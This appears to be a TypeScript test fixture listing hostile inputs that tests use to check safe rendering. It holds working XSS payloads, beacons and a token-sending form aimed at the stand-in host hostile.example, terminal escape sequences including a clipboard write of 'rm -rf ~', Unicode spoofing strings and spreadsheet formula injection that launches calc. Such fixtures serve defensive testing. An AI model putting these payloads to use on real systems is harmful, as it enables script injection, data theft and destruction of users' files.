/** What a hostile text sets on the page when it runs, and where it calls to: tests look for both. */
export const hostileMark = 'hostileWasHere';
export const hostileHost = 'hostile.example';

const run = `window.${hostileMark}=1`;
const url = `https://${hostileHost}/seen`;
const escape = '\u001b';
const bell = '\u0007';

/** Texts that do something where they are not treated as text. */
export const vectors: Readonly<Record<string, string>> = {
  script: `<script>${run}</script>`,
  'closed script': `</script><script>${run}</script>`,
  'image error': `<img src=x onerror="${run}">`,
  'quoted attribute': `"><img src=x onerror='${run}'>`,
  'single quotes': `' onmouseover='${run}' autofocus onfocus='${run}' x='`,
  'svg load': `<svg onload=${run}>`,
  'svg script': `<svg><script href="data:text/javascript,${run}"/></svg>`,
  'svg animate': `<svg><a><animate attributeName=href values="javascript:${run}"/><text y=20>x</text></a></svg>`,
  mathml: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
  'mutation through noscript': `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  iframe: `<iframe srcdoc="<script>parent.${run.slice('window.'.length)}</script>"></iframe>`,
  'javascript link': `<a href="javascript:${run}" id=x>x</a>`,
  'javascript link in Markdown': `[x](javascript:${run})`,
  'data link in Markdown': `[x](data:text/html,<script>${run}</script>)`,
  'picture from elsewhere': `<img src="${url}.png">`,
  'picture from elsewhere in Markdown': `![x](${url}.png)`,
  'style from elsewhere': `<style>@import url(${url}.css); * { background: url(${url}) }</style>`,
  'page from elsewhere': `<link rel=stylesheet href="${url}"><meta http-equiv=refresh content="0;url=${url}">`,
  base: `<base href="https://${hostileHost}/">`,
  form: `<form action="${url}"><input name=token><button autofocus>x</button></form>`,
  'toggled details': `<details open ontoggle="${run}">x</details>`,
  'end of everything': `</textarea></title></style></noscript></template>--><script>${run}</script>`,
  'end of CDATA': `]]><script>${run}</script>`,
  template: `{{constructor.constructor("${run}")()}}\${${run}}<%= ${run} %>`,
  entities: `&lt;script&gt;${run}&lt;/script&gt;&#60;img src=x onerror=${run}&#62;`,
  'link of a terminal': `${escape}]8;;javascript:${run}${bell}щёлкните${escape}]8;;${bell}`,
  'link of a terminal elsewhere': `${escape}]8;;${url}${bell}щёлкните${escape}]8;;${bell}`,
  'title of a terminal': `${escape}]0;<img src=x onerror=${run}>${bell}${escape}]2;x${bell}`,
  'clipboard of a terminal': `${escape}]52;c;cm0gLXJmIH4=${bell}`,
  'questions of a terminal': `${escape}[c${escape}[>c${escape}[6n${escape}[5n${escape}[21t${escape}P$qm${escape}\\${escape}]11;?${bell}`,
  'signs of direction': '\u202e<gnp.tropеr\u202c\u2066x\u2069\u200f',
  'signs that are not seen': 'a\u200b\u200d\u2060\ufeffb\u00adc\u034f',
  'halves of characters': '\ud800x\udc00',
  'control characters': '\u0000\u0001\u0008\u001f\u007f\u0085\u2028\u2029',
  'formula of a table': `=HYPERLINK("${url}","x")`,
  'command of a table': `@SUM(1+1)*cmd|' /C calc'!A0`,
  'names of the language': '__proto__ constructor prototype toString hasOwnProperty',
  'marks upon marks': `Z${'\u0300\u0489'.repeat(60)}`,
};
